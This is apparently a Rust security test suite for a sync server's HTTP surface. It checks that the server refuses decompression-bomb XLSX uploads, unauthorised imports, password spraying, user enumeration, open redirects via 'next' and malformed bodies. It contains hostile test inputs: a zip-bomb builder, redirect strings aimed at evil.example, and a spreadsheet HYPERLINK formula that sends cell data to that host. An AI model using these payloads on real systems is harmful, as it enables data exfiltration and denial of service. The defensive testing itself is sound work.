//! Attacks on the HTTP surface (issue 15, findings 1 and 7), against a real server on
//! 127.0.0.1: spreadsheets built to exhaust memory, imports by a role that may not import,
//! password guessing and user enumeration, framing and sniffing (security headers), an open
//! redirect through `next`, formulas smuggled into an export, and error bodies that described
//! the server's parser. Each is refused with a clear bilingual answer, the server stays up,
//! and nothing is stored (asserted on the server's database).

use std::io::{Cursor, Write};
use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;

use chrono::{DateTime, TimeDelta, TimeZone, Utc};
use fieldbook_core::FixedClock;
use fieldbook_core::model::Customer;
use fieldbook_sync_server::{ServerStore, accounts};
use serde_json::{Value, json};

use crate::common::{World, user};

const PASSWORD: &str = "correct horse battery";
const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
/// The throttle's limits (`guard::throttle`), as documented.
const USER_FAILURES: usize = 5;
const ADDRESS_FAILURES: usize = 20;
const LOCKOUT: TimeDelta = TimeDelta::minutes(5);

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 12, 1, 9, 0, 0).unwrap()
}

fn client() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

/// A client whose connections come from `ip` (another loopback address).
fn client_from(ip: Ipv4Addr) -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .local_address(IpAddr::V4(ip))
        .build()
        .unwrap()
}

async fn json_of(resp: reqwest::Response) -> (u16, Value) {
    let status = resp.status().as_u16();
    let text = resp.text().await.unwrap();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

async fn import(w: &World, who: &str, kind: &str, bytes: Vec<u8>) -> (u16, Value) {
    let resp = client()
        .post(w.http("/api/v1/import/customers"))
        .bearer_auth(&w.device(who).token)
        .header("content-type", kind)
        .body(bytes)
        .send()
        .await
        .unwrap();
    json_of(resp).await
}

/// How many customers the server has stored (index documents aside).
fn customers(w: &World) -> usize {
    let docs = w.store.list_docs().unwrap();
    docs.iter().filter(|d| d.kind == "customer").count()
}

fn error_of(body: &Value) -> &str {
    body["error"].as_str().unwrap_or_default()
}

/// Chinese first, then ` / ` and English.
fn assert_bilingual(message: &str) {
    let (zh, en) = message.split_once(" / ").unwrap_or(("", ""));
    assert!(
        zh.chars().any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c))
            && en.is_ascii()
            && !en.is_empty(),
        "bilingual: {message}"
    );
}

/// A workbook with `cells` (row, column, text), as `rust_xlsxwriter` writes it.
fn xlsx_of(cells: &[(u32, u16, &str)]) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (r, c, text) in cells {
        sheet.write_string(*r, *c, *text).unwrap();
    }
    book.save_to_buffer().unwrap()
}

/// `xlsx` with one more part of `inflated` zero bytes (deflated to a few KiB per MiB).
fn padded(xlsx: &[u8], inflated: usize) -> Vec<u8> {
    let mut source = zip::ZipArchive::new(Cursor::new(xlsx)).unwrap();
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for i in 0..source.len() {
        out.raw_copy_file(source.by_index(i).unwrap()).unwrap();
    }
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(true);
    out.start_file("xl/media/padding.bin", opts).unwrap();
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..inflated >> 20 {
        out.write_all(&chunk).unwrap();
    }
    out.finish().unwrap().into_inner()
}

/// The server still answers, and a valid import still works.
async fn still_up_and_importing(w: &World) {
    let health = client().get(w.http("/healthz")).send().await.unwrap();
    assert_eq!(health.status(), 200);
    let csv = "客户名称 / Customer,手机 / Mobile\n苏州园林,13800138000\n";
    let (s, body) = import(w, "cs.zhou", "text/csv", csv.into()).await;
    assert_eq!(
        (s, body["report"]["imported"].as_u64()),
        (200, Some(1)),
        "{body}"
    );
    assert_eq!(customers(w), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sparse_xlsx_with_cells_a1_and_xfd1048576_is_refused_and_the_server_stays_up() {
    let w = World::start().await;
    let bytes = xlsx_of(&[(0, 0, "客户名称 / Customer"), (1_048_575, 16_383, "x")]);
    assert!(
        bytes.len() < 16 * 1024,
        "a small file: {} bytes",
        bytes.len()
    );
    let (s, body) = import(&w, "cs.zhou", XLSX, bytes).await;
    assert_eq!(s, 413, "{body}");
    let e = error_of(&body);
    assert!(
        e.contains("最多 5000 行") && e.contains("at most 5000 rows"),
        "{e}"
    );
    assert_eq!(customers(&w), 0, "nothing imported");
    // Far to the right on the first rows is refused as well.
    let wide = xlsx_of(&[(0, 0, "客户名称 / Customer"), (1, 16_383, "x")]);
    let (s, body) = import(&w, "cs.zhou", XLSX, wide).await;
    assert_eq!(s, 413, "{body}");
    assert!(error_of(&body).contains("columns"), "{body}");
    assert_eq!(customers(&w), 0, "nothing imported");
    still_up_and_importing(&w).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_xlsx_that_inflates_far_past_the_cap_is_refused_before_it_is_parsed() {
    let w = World::start().await;
    let sheet = xlsx_of(&[(0, 0, "客户名称 / Customer"), (1, 0, "王府井百货")]);
    let bomb = padded(&sheet, 256 << 20);
    assert!(
        bomb.len() < 2 << 20,
        "under the upload limit: {} bytes",
        bomb.len()
    );
    let (s, body) = import(&w, "cs.zhou", XLSX, bomb).await;
    assert_eq!(s, 413, "{body}");
    let e = error_of(&body);
    assert!(
        e.contains("解压后超过 32 MiB") && e.contains("inflates to more than 32 MiB"),
        "{e}"
    );
    assert_eq!(customers(&w), 0, "nothing imported");
    // A broken zip: a generic 422, no parser's words.
    let (s, body) = import(&w, "cs.zhou", XLSX, b"PK\x03\x04 not a zip".to_vec()).await;
    assert_eq!(s, 422, "{body}");
    assert_eq!(
        error_of(&body),
        "无法处理 / unprocessable: XLSX 无法读取 / the XLSX cannot be read"
    );
    still_up_and_importing(&w).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_field_rep_or_a_supervisor_may_not_import_customers_for_the_company() {
    let w = World::start().await;
    let csv = "客户名称 / Customer\n苏州园林\n";
    for who in ["rep.li", "sup.zhao", "fin.wu"] {
        let (s, body) = import(&w, who, "text/csv", csv.into()).await;
        assert_eq!(s, 403, "{who}: {body}");
        assert!(
            error_of(&body).contains("only the customer-service manager"),
            "{body}"
        );
    }
    assert_eq!(customers(&w), 0, "nothing imported");
    for who in ["mkt.sun", "admin.zheng"] {
        let (s, body) = import(&w, who, "text/csv", csv.into()).await;
        assert_eq!(s, 200, "{who}: {body}");
    }
}

async fn device_login_from(
    c: &reqwest::Client,
    w: &World,
    name: &str,
    password: &str,
) -> reqwest::Response {
    let body = json!({ "user": name, "password": password });
    c.post(w.http("/api/v1/devices/login"))
        .json(&body)
        .send()
        .await
        .unwrap()
}

async fn device_login(w: &World, name: &str, password: &str) -> reqwest::Response {
    device_login_from(&client(), w, name, password).await
}

fn tokens_of(w: &World, name: &str) -> usize {
    let tokens = w.store.device_tokens().unwrap();
    tokens.iter().filter(|t| t.user.as_str() == name).count()
}

/// A 429 with `Retry-After` of `seconds` and the bilingual wait.
fn assert_throttled(status: u16, retry_after: Option<&str>, message: &str, seconds: i64) {
    assert_eq!(status, 429, "{message}");
    assert_eq!(retry_after, Some(seconds.to_string().as_str()));
    assert!(
        message.contains(&format!("请 {seconds} 秒后再试")),
        "{message}"
    );
    assert!(
        message.contains(&format!("try again in {seconds} seconds")),
        "{message}"
    );
    assert_bilingual(message);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn after_five_wrong_passwords_even_the_right_one_waits_until_the_lockout_passes() {
    let clock = Arc::new(FixedClock::new(now()));
    let w = World::start_on(clock.clone()).await;
    let before = tokens_of(&w, "rep.li");
    for _ in 0..USER_FAILURES {
        assert_eq!(device_login(&w, "rep.li", "guess").await.status(), 401);
    }
    clock.advance(TimeDelta::seconds(10));
    let resp = device_login(&w, "rep.li", PASSWORD).await;
    let (status, retry) = (
        resp.status().as_u16(),
        resp.headers().get("retry-after").cloned(),
    );
    let (_, body) = json_of(resp).await;
    let wait = (LOCKOUT - TimeDelta::seconds(10)).num_seconds();
    assert_throttled(
        status,
        retry.as_ref().and_then(|v| v.to_str().ok()),
        error_of(&body),
        wait,
    );
    assert_eq!(
        tokens_of(&w, "rep.li"),
        before,
        "no token issued while locked"
    );
    // The browser's sign-in shares the count.
    let form = [("user", "rep.li"), ("password", PASSWORD), ("next", "/")];
    let page = client()
        .post(w.http("/login"))
        .form(&form)
        .send()
        .await
        .unwrap();
    let retry = page
        .headers()
        .get("retry-after")
        .map(|v| v.to_str().unwrap().to_owned());
    let (status, html) = (page.status().as_u16(), page.text().await.unwrap());
    assert_eq!(
        (status, retry.as_deref()),
        (429, Some(wait.to_string().as_str()))
    );
    assert!(html.contains("too many failed sign-ins"), "{html}");
    // Another user is not locked out by rep.li's failures.
    assert_eq!(device_login(&w, "sup.zhao", PASSWORD).await.status(), 200);
    clock.advance(LOCKOUT);
    assert_eq!(device_login(&w, "rep.li", PASSWORD).await.status(), 200);
    assert_eq!(tokens_of(&w, "rep.li"), before + 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_spray_of_names_from_one_address_locks_that_address_only() {
    let clock = Arc::new(FixedClock::new(now()));
    let w = World::start_on(clock.clone()).await;
    let form = |name: String| {
        [
            ("user", name),
            ("password", "guess".into()),
            ("next", "/".into()),
        ]
    };
    for i in 0..ADDRESS_FAILURES {
        // Different names, so no single user is locked: half by the browser, half by the API.
        let name = format!("ghost{i}");
        let status = if i % 2 == 0 {
            device_login(&w, &name, "guess").await.status()
        } else {
            client()
                .post(w.http("/login"))
                .form(&form(name))
                .send()
                .await
                .unwrap()
                .status()
        };
        assert_eq!(status, 401);
    }
    let resp = device_login(&w, "rep.wang", PASSWORD).await;
    let retry = resp
        .headers()
        .get("retry-after")
        .map(|v| v.to_str().unwrap().to_owned());
    let (status, body) = json_of(resp).await;
    assert_throttled(
        status,
        retry.as_deref(),
        error_of(&body),
        LOCKOUT.num_seconds(),
    );
    // The same user from another address is not locked.
    let other = client_from(Ipv4Addr::new(127, 0, 0, 2));
    assert_eq!(
        device_login_from(&other, &w, "rep.wang", PASSWORD)
            .await
            .status(),
        200
    );
    clock.advance(LOCKOUT + TimeDelta::seconds(1));
    assert_eq!(device_login(&w, "rep.wang", PASSWORD).await.status(), 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unknown_and_disabled_users_cost_a_real_argon2_verification() {
    let w = World::start().await;
    let mut disabled = w.store.account(&user("fin.wu")).unwrap().unwrap();
    disabled.active = false;
    w.store.put_account(&disabled).unwrap();
    let answers = async |name: &str| {
        let before = accounts::dummy_verifications();
        let (s, body) = json_of(device_login(&w, name, "some guess").await).await;
        (
            s,
            error_of(&body).to_owned(),
            accounts::dummy_verifications() - before,
        )
    };
    let (s, real, _) = answers("rep.li").await;
    assert_eq!(s, 401);
    for name in ["nobody.here", "fin.wu"] {
        let (s, message, dummies) = answers(name).await;
        assert_eq!(
            (s, message.as_str()),
            (401, real.as_str()),
            "{name}: same answer"
        );
        assert!(dummies >= 1, "{name}: the dummy hash was verified");
    }
    assert_bilingual(&real);
}

/// The four security headers.
fn assert_secured(resp: &reqwest::Response, what: &str) {
    let h = |name: &str| {
        resp.headers()
            .get(name)
            .map(|v| v.to_str().unwrap().to_owned())
    };
    let csp = h("content-security-policy").unwrap_or_default();
    for part in [
        "default-src 'none'",
        "script-src 'self'",
        "frame-ancestors 'none'",
    ] {
        assert!(csp.contains(part), "{what}: {csp}");
    }
    assert!(!csp.contains("unsafe-inline"), "{what}: {csp}");
    assert_eq!(h("x-frame-options").as_deref(), Some("DENY"), "{what}");
    assert_eq!(
        h("x-content-type-options").as_deref(),
        Some("nosniff"),
        "{what}"
    );
    assert_eq!(
        h("referrer-policy").as_deref(),
        Some("no-referrer"),
        "{what}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_page_api_answer_and_error_carries_the_security_headers() {
    let w = World::start().await;
    let c = client();
    let li = &w.device("rep.li").token;
    let cases = [
        (c.get(w.http("/login")), 200, "the login page"),
        (c.get(w.http("/")), 303, "a redirect to sign in"),
        (c.get(w.http("/static/app.js")), 200, "a script"),
        (
            c.get(w.http("/api/v1/records")).bearer_auth(li),
            200,
            "an API answer",
        ),
        (c.get(w.http("/api/v1/records")), 401, "an API error"),
        (
            c.get(w.http("/no/such/page")),
            404,
            "the fallback's error page",
        ),
    ];
    for (req, status, what) in cases {
        let resp = req.send().await.unwrap();
        assert_eq!(resp.status().as_u16(), status, "{what}");
        assert_secured(&resp, what);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn next_goes_only_to_a_path_of_this_site() {
    let w = World::start().await;
    for next in [
        "/\t/evil.example",
        "//evil.example",
        "https://evil.example",
        "/\\evil",
        "/\n/evil.example",
    ] {
        let form = [("user", "rep.li"), ("password", PASSWORD), ("next", next)];
        let resp = client()
            .post(w.http("/login"))
            .form(&form)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 303, "{next:?}");
        assert_eq!(resp.headers()["location"], "/", "{next:?}");
        let url = reqwest::Url::parse_with_params(&w.http("/login"), [("next", next)]).unwrap();
        let page = client().get(url).send().await.unwrap();
        let html = page.text().await.unwrap();
        assert!(
            html.contains(r#"name="next""#) && !html.contains("evil"),
            "{next:?}: {html}"
        );
    }
    let form = [
        ("user", "rep.li"),
        ("password", PASSWORD),
        ("next", "/records?kind=customer"),
    ];
    let resp = client()
        .post(w.http("/login"))
        .form(&form)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.headers()["location"], "/records?kind=customer");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_typed_on_a_phone_reaches_the_export_as_text() {
    let w = World::start().await;
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"点我")"#;
    let li = w.device("rep.li");
    li.store
        .create(Customer {
            name: formula.into(),
            ..Customer::default()
        })
        .unwrap();
    li.sync().await;
    assert_eq!(customers(&w), 1);
    let get = |ext: &str| {
        let url = w.http(&format!("/api/v1/records/export.{ext}?kind=customer"));
        client()
            .get(url)
            .bearer_auth(&w.device("cs.zhou").token)
            .send()
    };
    let csv = get("csv").await.unwrap().text().await.unwrap();
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let titles: Vec<String> = rows.records().map(|r| r.unwrap()[2].to_owned()).collect();
    assert_eq!(titles, [format!("'{formula}")], "{csv}");
    let xlsx = get("xlsx").await.unwrap().bytes().await.unwrap();
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> = calamine::Xlsx::new(Cursor::new(xlsx.to_vec())).unwrap();
    let formulas = book.worksheet_formula("记录 Records").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula cell"
    );
    let values = book.worksheet_range("记录 Records").unwrap();
    assert_eq!(
        values.get((1, 2)).map(ToString::to_string).as_deref(),
        Some(formula)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_malformed_body_is_answered_without_the_parsers_words() {
    let w = World::start().await;
    let sup = &w.device("sup.zhao").token;
    let review = w.http(&format!(
        "/api/v1/records/{}/review",
        fieldbook_core::RecordId::from_random_bytes([9; 16])
    ));
    let cases = [
        (
            w.http("/api/v1/devices/login"),
            None,
            r#"{"user": "rep.li", "password": 5}"#,
            "field password",
        ),
        (
            w.http("/api/v1/devices/login"),
            None,
            r#"{"user": "rep.li", "#,
            "",
        ),
        (
            w.http("/api/v1/devices/login"),
            None,
            r#"{"user":"a","password":"b","<img src=x>":1}"#,
            "",
        ),
        (
            review.clone(),
            Some(sup),
            r#"{"guidance": ["x"]}"#,
            "field guidance",
        ),
        (review, Some(sup), "[1, 2", ""),
    ];
    for (url, token, body, field) in cases {
        let req = client()
            .post(url)
            .header("content-type", "application/json")
            .body(body);
        let req = match token {
            Some(t) => req.bearer_auth(t),
            None => req,
        };
        let (s, answer) = json_of(req.send().await.unwrap()).await;
        assert_eq!(s, 400, "{body}: {answer}");
        let e = error_of(&answer);
        assert!(
            e.starts_with("请求体无效") && e.contains("invalid JSON body"),
            "{e}"
        );
        assert!(e.contains(field), "{body}: {e}");
        for internal in [
            "line",
            "column",
            "expected",
            "deserialize",
            "<img",
            "invalid type",
        ] {
            assert!(!e.contains(internal), "{body}: {e}");
        }
    }
    // A query names the parameter at most, never the parser's words or foreign markup.
    for (query, named) in [
        ("page=abc", "page"),
        ("colour=red", "colour"),
        ("%3Cb%3E=1", ""),
    ] {
        let url = w.http(&format!("/api/v1/records?{query}"));
        let (s, answer) = json_of(client().get(url).bearer_auth(sup).send().await.unwrap()).await;
        let e = error_of(&answer);
        assert_eq!(s, 400, "{query}: {answer}");
        assert_eq!(
            e.trim_end_matches(named).trim_end_matches(": "),
            "查询参数无效 / invalid query"
        );
        assert!(
            !e.contains("digit") && !e.contains("expected") && !e.contains('<'),
            "{e}"
        );
    }
    assert_eq!(w.store.list_docs().unwrap().len(), 0, "nothing stored");
}
